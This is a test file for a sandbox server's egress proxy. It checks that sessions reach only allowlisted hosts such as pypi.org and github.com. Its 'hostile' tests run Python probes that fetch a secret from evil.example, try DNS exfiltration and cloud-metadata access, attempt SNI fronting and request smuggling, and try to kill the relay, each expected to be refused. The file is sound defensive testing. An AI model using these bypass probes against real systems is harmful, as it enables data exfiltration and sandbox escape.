// Egress by name (docs/egress.md), against the real engine and a small
// offline internet of real parts (tests/lib/egressnet.mjs): TLS with a test
// CA, a PEP 503 index, a git forge, canaries, and dnsmasq as the resolver
// the server uses. The sandbox is treated as hostile: every "what must hold"
// of the design is tried from inside one, with the refusal it gets.

import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { Server, suite, requireEngine, cleanup, show, sleep } from '../lib/harness.mjs';
import { EgressNet } from '../lib/egressnet.mjs';

const CEILING = 'pypi.org,files.pythonhosted.org,github.com,*.github.com,*.githubusercontent.com,evil.example,*.evil.example,' +
  'lan.test,private.test,metadata.test,loop.test';

describe('egress', suite({ timeout: 900000 }), () => {
  let net, srv, sid, bare;

  async function session(name, egress) {
    const args = { name, env: net.sessionEnv() };
    if (egress) args.egress = egress;
    const s = await srv.ok('session_create', args, { timeoutMs: 120000 });
    await srv.ok('file_write', { session_id: s.session_id, path: '.test-ca.pem', content: net.caPem });
    return s;
  }

  // Python in the sandbox: prints one JSON line
  async function py(session_id, code) {
    const r = await srv.ok('run_command', { session_id, command: `python3 - <<'EOF'\n${code}\nEOF` }, { timeoutMs: 90000 });
    const line = r.stdout.trim().split('\n').pop();
    try {
      return JSON.parse(line);
    } catch {
      throw new Error(`not JSON: ${show(r)}`);
    }
  }

  before(async () => {
    requireEngine();
    net = new EgressNet(); // assigned first: after() removes what a start that failed half-way made
    await net.start();
    srv = await Server.start('egress', {
      SANDBOX_EGRESS_ALLOW: CEILING,
      SANDBOX_EGRESS_ADDRESSES: `${net.inet.base}.0/24`,
      SANDBOX_EGRESS_CONNS: 16,
      SANDBOX_TIMEOUT_S: 120,
    }, { wrap: net.wrap() });
    sid = (await session('egress', { presets: ['pypi', 'github'] })).session_id;
    bare = (await session('bare')).session_id;
  });

  after(async () => {
    await cleanup();
    if (net) await net.stop();
  });

  test('pip_install numpy comes from the test index in a session with the pypi preset', async () => {
    const r = await srv.ok('pip_install', { session_id: sid, packages: ['numpy==99.0.0'] }, { timeoutMs: 180000 });
    assert.deepEqual(r.installed, ['numpy-99.0.0'], show(r));
    const v = await py(sid, 'import json, numpy; print(json.dumps(numpy.VALUE))');
    assert.equal(v, 'from the test index');
    const seen = net.seen('pypi').map((x) => `${x.sni} ${x.path}`);
    assert.ok(seen.some((x) => x.startsWith('pypi.org /simple/numpy/')), JSON.stringify(seen));
    assert.ok(seen.some((x) => x.startsWith('files.pythonhosted.org /packages/numpy-99.0.0')), JSON.stringify(seen));
  });

  test('git_clone over https comes from the test forge', async () => {
    const r = await srv.ok('git_clone', { session_id: sid, repo_url: 'https://github.com/org/demo.git', path: 'demo' },
      { timeoutMs: 120000 });
    assert.ok(r, show(r));
    const f = await srv.sh('cat demo/README.md', { session_id: sid });
    assert.equal(f.stdout, 'a repository on the test forge\n');
  });

  test('git_push over https reaches the test forge', async () => {
    await srv.ok('file_write', { session_id: sid, path: 'demo/pushed.txt', content: 'from the sandbox\n' });
    await srv.ok('git_commit', { session_id: sid, path: 'demo', message: 'pushed through the proxy' });
    const r = await srv.ok('git_push', { session_id: sid, path: 'demo' }, { timeoutMs: 120000 });
    assert.ok(r, show(r));
    const { execFileSync } = await import('node:child_process');
    const log = execFileSync('git', ['--git-dir', net.forgeRepo, 'log', '--format=%s', 'main']).toString();
    assert.match(log, /^pushed through the proxy$/m, log);
  });

  test('session_export of the session builds through the same policy, and its Dockerfile carries no proxy', async () => {
    const repo = 'sandbox-mcp-test-export';
    const res = await srv.call('session_export', { session_id: sid, build: true, repository: repo, tag: `egress-${process.pid}` },
      { timeoutMs: 600000 });
    assert.ok(!res.isError, show(res));
    const x = res.structuredContent;
    try {
      assert.match(x.dockerfile, /numpy==99\.0\.0/, x.dockerfile);
      assert.doesNotMatch(x.dockerfile, /PROXY|proxy/, x.dockerfile);
      const built = (await srv.ok('session_create', { image: x.reference })).session_id;
      const v = await srv.sh('python3 -c "import numpy; print(numpy.VALUE)"', { session_id: built });
      assert.equal(v.stdout.trim(), 'from the test index');
      await srv.ok('session_close', { session_id: built });
      // the build's steps went through the proxy: the index saw a second download
      const wheels = net.seen('pypi').filter((q) => q.path.startsWith('/packages/numpy-99.0.0'));
      assert.ok(wheels.length >= 2, JSON.stringify(wheels));
    } finally {
      const { execFileSync } = await import('node:child_process');
      try { execFileSync('docker', ['rmi', x.reference]); } catch { /* already gone */ }
    }
  });

  test('without egress the same calls fail clearly', async () => {
    const p = await srv.fails('pip_install', { session_id: bare, packages: ['numpy==99.0.0'] }, 'network_disabled');
    assert.match(p.error.message, /egress/);
    const g = await srv.fails('git_clone', { session_id: bare, repo_url: 'https://github.com/org/demo.git', path: 'demo' },
      'git_failed');
    assert.match(g.error.message, /no network/);
  });

  test('a host outside the policy gets a 403 naming it and the policy', async () => {
    const r = await py(sid, `${PROBE}
print(json.dumps([fetch('https://evil.example/x/secret.txt'), fetch('http://evil.example/x/secret.txt'),
  fetch('http://pypi.org/redirect?to=http://evil.example/x/secret.txt'),
  fetch('https://pypi.org/redirect?to=https://evil.example/x/secret.txt')]))`);
    assert.match(r[0], /403 Forbidden/, JSON.stringify(r));
    // a redirect from an allowed host is judged when the client follows it
    assert.match(r[2], /^403 .*evil\.example:80 is not allowed/, JSON.stringify(r));
    assert.match(r[3], /403 Forbidden/, JSON.stringify(r));
    assert.match(r[1], /^403 .*evil\.example:80 is not allowed by this session's egress policy \(allowed: pypi\.org/, JSON.stringify(r));
    assert.deepEqual(net.seen('evil'), []);
    const st = await srv.ok('session_egress', { session_id: sid });
    const refused = st.log.find((e) => e.host === 'evil.example' && e.verdict === 'refused');
    assert.ok(refused && refused.count >= 1, JSON.stringify(st.log));
    const allowed = st.log.find((e) => e.host === 'pypi.org' && e.verdict === 'allowed');
    assert.ok(allowed && allowed.bytes_in > 0, JSON.stringify(st.log));
    // and as a resource, listed and read
    const uri = `sandbox-egress://${sid}`;
    const all = await srv.client.listResources();
    assert.ok(all.resources.some((x) => x.uri === uri), JSON.stringify(all.resources.slice(0, 5)));
    const rr = await srv.client.readResource({ uri });
    const doc = JSON.parse(rr.contents[0].text);
    assert.equal(rr.contents[0].mimeType, 'application/json');
    assert.ok(doc.log.some((e) => e.host === 'evil.example' && e.verdict === 'refused'), rr.contents[0].text);
    await assert.rejects(srv.client.readResource({ uri: `sandbox-egress://${bare}` }), /Resource not found/);
    const listed = (await srv.ok('session_list', {})).sessions.find((x) => x.session_id === sid);
    assert.equal(listed.egress.relay, 'up');
    assert.ok(listed.egress.policy.includes('pypi.org:443/80'), JSON.stringify(listed.egress));
  });

  test('hostile: the sandbox has no route but the proxy (host, LAN, metadata, IPv6, UDP, raw, DNS)', async () => {
    const r = await py(sid, `
import json, socket, errno
out = {}
def tcp(name, fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
    try:
        s.connect(addr); out[name] = 'connected'
    except OSError as e:
        out[name] = errno.errorcode.get(e.errno, str(e))
    finally:
        s.close()
tcp('inet', socket.AF_INET, ('${net.ip.evil}', 443))
tcp('lan', socket.AF_INET, ('${net.ip.lan}', 443))
tcp('gateway', socket.AF_INET, ('${net.inet.base}.1', ${net.hostPort}))
tcp('metadata', socket.AF_INET, ('169.254.169.254', 80))
tcp('v6', socket.AF_INET6, ('fd00::1', 443))
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'x', ('${net.ip.evil}', 53)); out['udp'] = 'sent'
except OSError as e:
    out['udp'] = errno.errorcode.get(e.errno, str(e))
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); out['raw'] = 'opened'
except OSError as e:
    out['raw'] = errno.errorcode.get(e.errno, str(e))
try:
    socket.getaddrinfo('exfil-1234.evil.example', 443); out['dns'] = 'resolved'
except OSError as e:
    out['dns'] = 'failed'
out['ifaces'] = sorted(n for _, n in socket.if_nameindex())
print(json.dumps(out))`);
    for (const k of ['inet', 'lan', 'gateway', 'metadata', 'v6']) assert.equal(r[k], 'ENETUNREACH', `${k}: ${JSON.stringify(r)}`);
    assert.equal(r.udp, 'ENETUNREACH', JSON.stringify(r));
    assert.equal(r.raw, 'EPERM', JSON.stringify(r));
    assert.equal(r.dns, 'failed', JSON.stringify(r));
    assert.deepEqual(r.ifaces, ['lo'], JSON.stringify(r));
    assert.equal(net.hostHits(), 0, 'the host service on 0.0.0.0 saw nothing');
    assert.ok(!net.queries().some((q) => q.includes('exfil-1234')), `dnsmasq never heard of it: ${net.queries()}`);
  });

  test('hostile: names are judged before they are resolved, addresses after', async () => {
    await srv.ok('session_egress', { session_id: sid, presets: ['pypi', 'github'],
      allow: ['evil.example', 'lan.test', 'private.test', 'metadata.test', 'loop.test'] });
    const r = await py(sid, `${PROBE}
print(json.dumps({
  'exfil': fetch('https://exfil-5678.evil.example/'),
  'private': fetch('https://private.test/'),
  'metadata': fetch('http://metadata.test/latest/meta-data/'),
  'loop': fetch('http://loop.test:80/'),
  'literal': fetch('https://${net.ip.pypi}/simple/'),
  'literal_http': fetch('http://${net.ip.pypi}/simple/'),
}))`);
    assert.match(r.exfil, /403/, JSON.stringify(r));
    assert.ok(!net.queries().some((q) => q.includes('exfil-5678')), 'a refused name is never looked up');
    assert.match(r.private, /403/, JSON.stringify(r));
    assert.match(r.metadata, /^403 .*metadata\.test resolves only to addresses egress never reaches: link-local/, JSON.stringify(r));
    assert.match(r.loop, /^403 .*loopback/, JSON.stringify(r));
    assert.match(r.literal_http, /^403 .*is an address/, JSON.stringify(r));
    assert.match(r.literal, /403/, JSON.stringify(r));
    assert.deepEqual(net.seen('lan'), [], 'the LAN canary saw nothing');
  });

  test('hostile: CONNECT and SNI must agree, a tunnel carries TLS, Host names the URL host', async () => {
    const r = await py(sid, `${PROBE}
import ssl
def tunnel(host, sni, payload=None):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
    s.sendall(f'CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}:443\\r\\n\\r\\n'.encode())
    head = s.recv(4096).decode(errors='replace')
    if not head.startswith('HTTP/1.1 200'):
        return head.split('\\r\\n')[0]
    if payload is not None:
        s.sendall(payload)
        try:
            return 'answer ' + s.recv(100).hex()
        except OSError as e:
            return 'error ' + str(e)
    ctx = ssl.create_default_context()
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(f'GET / HTTP/1.1\\r\\nHost: {sni}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
        return 'tls ' + t.recv(100).decode(errors='replace').split('\\r\\n')[0]
    except (ssl.SSLError, OSError) as e:
        return 'error ' + str(e)
def raw(req):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
    s.sendall(req)
    return s.recv(4096).decode(errors='replace').split('\\r\\n')[0]
def whole(req):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
    s.sendall(req)
    out = b''
    while True:
        b = s.recv(65536)
        if not b: break
        out += b
    return out.split(b'\\r\\n\\r\\n', 1)[1].decode(errors='replace')
print(json.dumps({
  'same': tunnel('pypi.org', 'pypi.org'),
  'fronted': tunnel('pypi.org', 'evil.example'),
  'not_tls': tunnel('pypi.org', None, b'SSH-2.0-OpenSSH_9.2\\r\\n'),
  'host_mismatch': raw(b'GET http://pypi.org/simple/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'),
  'origin_form': raw(b'GET /simple/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n'),
  'huge': raw(b'GET http://pypi.org/ HTTP/1.1\\r\\nX: ' + b'a' * 20000 + b'\\r\\n\\r\\n'),
  'long_name': raw(b'CONNECT ' + b'a' * 300 + b'.pypi.org:443 HTTP/1.1\\r\\n\\r\\n'),
  'port': raw(b'CONNECT pypi.org:22 HTTP/1.1\\r\\n\\r\\n'),
  'body': whole(b'POST http://pypi.org/echo HTTP/1.1\\r\\nHost: pypi.org\\r\\nContent-Length: 10\\r\\n\\r\\n0123456789'
                b'GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'),
}))`);
    assert.equal(r.same, 'tls HTTP/1.0 200 OK', JSON.stringify(r));
    assert.match(r.fronted, /error .*(alert|ACCESS_DENIED|access denied)/i, JSON.stringify(r));
    assert.match(r.not_tls, /^answer 15030300020231$|^error/, JSON.stringify(r));
    assert.match(r.host_mismatch, /^HTTP\/1.1 400/, JSON.stringify(r));
    assert.match(r.origin_form, /^HTTP\/1.1 400/, JSON.stringify(r));
    assert.match(r.huge, /^HTTP\/1.1 431/, JSON.stringify(r));
    assert.match(r.long_name, /^HTTP\/1.1 (400|403)/, JSON.stringify(r));
    assert.match(r.port, /^HTTP\/1.1 403/, JSON.stringify(r));
    // one request per connection: the body goes whole, what follows it nowhere
    assert.equal(r.body, '0123456789', JSON.stringify(r));
    const pypiSni = net.seen('pypi').map((x) => x.sni);
    assert.ok(!pypiSni.includes('evil.example'), 'the fronted hello never reached the origin');
  });

  test('the policy changes on the live session: new connections at once, open ones to a removed host closed', async () => {
    const st = await srv.ok('session_egress', { session_id: sid, presets: ['pypi', 'github'] });
    assert.ok(!st.policy.includes('evil.example:443/80'), JSON.stringify(st.policy));
    // a connection held open to github.com, then github is taken away
    const job = srv.ok('run_command', { session_id: sid, command: `python3 - <<'EOF'
import socket, time, json
s = socket.create_connection(('127.0.0.1', 3128), timeout=30)
s.sendall(b'CONNECT github.com:443 HTTP/1.1\\r\\n\\r\\n')
print(s.recv(100).split(b'\\r\\n')[0].decode(), flush=True)
t0 = time.time()
try:
    d = s.recv(100)
    print(json.dumps({'closed': d == b'', 'after': time.time() - t0}))
except OSError as e:
    print(json.dumps({'closed': True, 'after': time.time() - t0, 'error': str(e)}))
EOF` }, { timeoutMs: 60000 });
    await sleep(1500);
    const t0 = Date.now();
    await srv.ok('session_egress', { session_id: sid, presets: ['pypi'] });
    const ms = Date.now() - t0;
    const out = await job;
    const lines = out.stdout.trim().split('\n');
    assert.equal(lines[0], 'HTTP/1.1 200 Connection established', show(out));
    const res = JSON.parse(lines[1]);
    assert.ok(res.closed, show(out));
    const r = await py(sid, `${PROBE}
print(json.dumps(fetch('https://github.com/org/demo.git/info/refs')))`);
    assert.match(r, /403/, r);
    assert.ok(ms < 2000, `the change took ${ms} ms`);
  });

  test('a rollback keeps the session\'s egress, with the policy it has now', async () => {
    const s = await session('rb-egress', { presets: ['pypi', 'github'] });
    await srv.ok('session_checkpoint', { session_id: s.session_id, name: 'start' });
    // narrowed after the checkpoint: the rollback must not widen it again
    await srv.ok('session_egress', { session_id: s.session_id, presets: ['pypi'] });
    await srv.ok('session_checkpoint', { session_id: s.session_id, action: 'rollback', checkpoint: 'start' });
    const r = await py(s.session_id, `${PROBE}
print(json.dumps([fetch('https://pypi.org/simple/'), fetch('https://github.com/org/demo.git/info/refs')]))`);
    assert.match(r[0], /^200 /, r[0]);
    assert.match(r[1], /403/, r[1]);
    const st = await srv.ok('session_egress', { session_id: s.session_id });
    assert.ok(!JSON.stringify(st.policy).includes('github.com'), JSON.stringify(st.policy));
    await srv.ok('session_close', { session_id: s.session_id });
  });

  test('hostile: connections past the cap get 503, silent ones 408 within 10 s, and their places come back', async () => {
    const r = await py(sid, `${PROBE}
import time
held = []
for i in range(20):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=15)
    held.append(s)
time.sleep(0.5)
first = [h.recv(200).split(b'\\r\\n')[0].decode() for h in held[16:]]
t0 = time.time()
late = [h.recv(200).split(b'\\r\\n')[0].decode() for h in held[:16]]
waited = time.time() - t0
for h in held: h.close()
time.sleep(0.5)
print(json.dumps({'over': first, 'silent': sorted(set(late)), 'waited': waited, 'after': fetch('https://pypi.org/simple/')}))`);
    assert.deepEqual(r.over, Array(4).fill('HTTP/1.1 503 Service Unavailable'), JSON.stringify(r));
    assert.deepEqual(r.silent, ['HTTP/1.1 408 Request Timeout'], JSON.stringify(r));
    assert.ok(r.waited < 11, JSON.stringify(r));
    assert.match(r.after, /^200 /, JSON.stringify(r));
  });

  test('hostile: the sandbox cannot stop the relay; a relay that dies closes egress and the next call starts it again', async () => {
    const k = await srv.ok('run_command', { session_id: sid,
      command: 'pid=$(pgrep -f -- "--relay" | head -1); echo "pid=$pid"; kill -9 "$pid"; echo "rc=$?"' });
    assert.match(k.stdout, /pid=\d+/, show(k));
    assert.match(k.stdout + k.stderr, /rc=1|Operation not permitted/, show(k));
    // its own user kills it (the sandbox's root cannot: every capability is dropped), as an OOM kill would
    const info = await srv.ok('session_list', {});
    const ctr = info.sessions.find((x) => x.session_id === sid).container_id;
    const { execFileSync } = await import('node:child_process');
    execFileSync('docker', ['exec', '-u', '65534', ctr, 'pkill', '-9', '-u', '65534', '-x', 'agent']);
    let st;
    for (let i = 0; i < 50; i++) {
      st = (await srv.ok('session_list', {})).sessions.find((x) => x.session_id === sid).egress;
      if (st.relay !== 'up') break;
      await sleep(100);
    }
    assert.match(st.relay, /^the relay ended/, JSON.stringify(st));
    // run_command goes through the agent, which starts the relay again before the command runs
    const r = await py(sid, `${PROBE}
print(json.dumps(fetch('https://pypi.org/simple/')))`);
    assert.match(r, /^200 /, r);
  });

  test('a flood from one session does not stall another session\'s egress', async () => {
    const other = (await session('other', { presets: ['pypi'] })).session_id;
    const flood = srv.ok('run_command', { session_id: other, command: `python3 - <<'EOF'
import urllib.request, time
t0 = time.time(); n = 0
while time.time() - t0 < 4:
    with urllib.request.urlopen('https://files.pythonhosted.org/big', timeout=30) as r:
        while True:
            b = r.read(1 << 20)
            if not b: break
            n += len(b)
print(n)
EOF` }, { timeoutMs: 120000 });
    await sleep(1500);
    const r = await py(sid, `${PROBE}
import time
ts = []
for i in range(5):
    t0 = time.time(); x = fetch('https://pypi.org/simple/'); ts.append(time.time() - t0)
    assert x.startswith('200 '), x
print(json.dumps(max(ts)))`);
    const out = await flood;
    assert.ok(Number(out.stdout.trim()) > 30 << 20, `the flood moved ${out.stdout.trim()} bytes`);
    assert.ok(r < 2, `the slowest fetch beside the flood took ${r} s`);
  });

  test('a persistent session keeps its egress when the next server adopts it', async () => {
    const env = { SANDBOX_EGRESS_ALLOW: CEILING, SANDBOX_EGRESS_ADDRESSES: `${net.inet.base}.0/24` };
    const A = await Server.start('egress-a', env, { wrap: net.wrap() });
    const p = (await A.ok('session_create', { persistent: true, name: 'kept', env: net.sessionEnv(),
      egress: { presets: ['pypi'] } })).session_id;
    await A.ok('file_write', { session_id: p, path: '.test-ca.pem', content: net.caPem });
    await A.kill('SIGKILL', { withJanitor: true });
    const B = await Server.start('egress-b', env, { wrap: net.wrap() });
    let st;
    for (let i = 0; i < 100 && !st; i++) {
      st = (await B.ok('session_list', {})).sessions.find((x) => x.session_id === p);
      if (!st) await sleep(100);
    }
    assert.equal(st?.egress?.relay, 'up', JSON.stringify(st));
    assert.deepEqual(st.egress.policy, ['pypi.org:443/80', 'files.pythonhosted.org:443/80']);
    const r = await B.ok('run_command', { session_id: p, command: `python3 - <<'EOF'
${PROBE}
print(json.dumps([fetch('https://pypi.org/simple/'), fetch('https://github.com/')]))
EOF` });
    const [ok, refused] = JSON.parse(r.stdout.trim());
    assert.match(ok, /^200 /, r.stdout);
    assert.match(refused, /403/, r.stdout);
    await B.ok('session_close', { session_id: p });
  });
});

// Python for the sandbox: fetch(url) through the proxy variables, as any program would; "status first line of body"
const PROBE = `
import json, socket, urllib.request, urllib.error
def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=20) as r:
            return f'{r.status} ' + r.read(200).decode(errors='replace')
    except urllib.error.HTTPError as e:
        return f'{e.code} ' + e.read(400).decode(errors='replace')
    except Exception as e:
        return f'error {e}'
`;
